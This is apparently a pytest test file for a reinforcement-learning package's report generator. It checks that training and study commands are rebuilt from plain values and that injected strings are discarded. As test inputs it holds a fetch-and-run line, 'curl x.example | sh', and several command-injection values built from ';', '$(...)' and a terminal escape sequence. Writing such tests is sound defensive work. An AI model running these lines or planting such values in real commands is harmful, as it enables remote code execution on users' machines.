"""Commands are rebuilt from plain values; what a stranger's file says is never shown as one."""

import json
from pathlib import Path
from typing import Any

import pytest

from mixedne.config import configure
from mixedne.config.identity import command, to_json
from mixedne.reports.inputs.collect import collect
from mixedne.reports.inputs.methods import study_command, train_commands
from probes.tables import config_of, pretend_evaluated, shifts, write_config

EVIL = "curl x.example | sh"


def config(**wishes: Any) -> dict[str, Any]:
    made = configure("Hopper-v5", **wishes)
    return {**to_json(made), "command": command(made)}


@pytest.mark.parametrize(
    "wishes",
    [
        {},
        {"agent": "sac"},
        {"solver": "gad", "hidden": (32, 16), "normalise_observations": True, "eta": 3e-5},
    ],
)
def test_a_run_s_command_is_the_one_that_made_it(wishes: dict[str, Any]) -> None:
    made = config(**wishes)
    command = made["command"].replace(" --seed 0", "")
    assert train_commands([made]) == [f"{command} --seed 0"]
    again = train_commands([made, {**made, "seed": 4}, {**made, "seed": 5}])
    assert again == [f"{command} --seed 0  # and with seeds 0, 4, 5"]


@pytest.mark.parametrize(
    "change",
    [
        {"task": "evil_module:Hopper-v5"},
        {"task": f"Hopper-v5; {EVIL}"},
        {"solver": f"gad; {EVIL}"},
        {"delta": EVIL},
        {"hidden": [EVIL], "command": "mixedne train Hopper-v5 --hidden 64"},
        {"steps": {"a": 1}},
        {"formulation": "rarl", "bodies": f"torso\x1b[201~\n{EVIL}\n"},
        {"randomise": ["mass=0.5:2", f"$({EVIL})"]},
    ],
)
def test_a_configuration_with_more_than_plain_values_has_none(change: dict[str, Any]) -> None:
    assert train_commands([{**config(solver="gad"), **change}]) == []


@pytest.mark.parametrize("said", [EVIL, f"mixedne train Hopper-v5 --out /etc && {EVIL}", 7, None])
def test_a_command_is_made_anew_whatever_a_file_says(said: Any) -> None:
    made = config()
    assert train_commands([{**made, "command": said, "evil": EVIL}]) == train_commands([made])


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("mixedne study smoke --out old", "mixedne study smoke --out studies"),
        (
            "mixedne study my/own.toml --seeds=2 --tasks Hopper-v5 Ant-v5 --workers 2 --out old",
            "mixedne study own.toml --tasks Hopper-v5 Ant-v5 --seeds 2 --out studies",
        ),
        ("mixedne study smoke; curl x.example", None),
        (f"mixedne study smoke --tasks '$({EVIL})'", None),
        ("mixedne study '$(evil)'", None),
        ("'", None),
        (7, None),
    ],
)
def test_a_study_s_command_has_known_options_alone(said: Any, expected: str | None) -> None:
    assert study_command({"command": said}, Path("studies")) == expected


def test_a_report_shows_none_of_a_stranger_s_strings(tmp_path: Path) -> None:
    pretend_evaluated(tmp_path / "runs" / "a", shifts(mass=(1.0, 2.0)), solver="gad")
    run = tmp_path / "runs" / "a"
    write_config(run, {**config_of(run), "command": EVIL})
    (tmp_path / "studies").mkdir()
    plan = {"study": "mine", "command": EVIL, "runs": []}
    (tmp_path / "studies" / "mine.json").write_text(json.dumps(plan))
    (command,) = collect([tmp_path]).provenance.commands
    assert command.startswith("mixedne train HalfCheetah-v5 --agent ddpg --solver gad")
    assert "curl" not in command
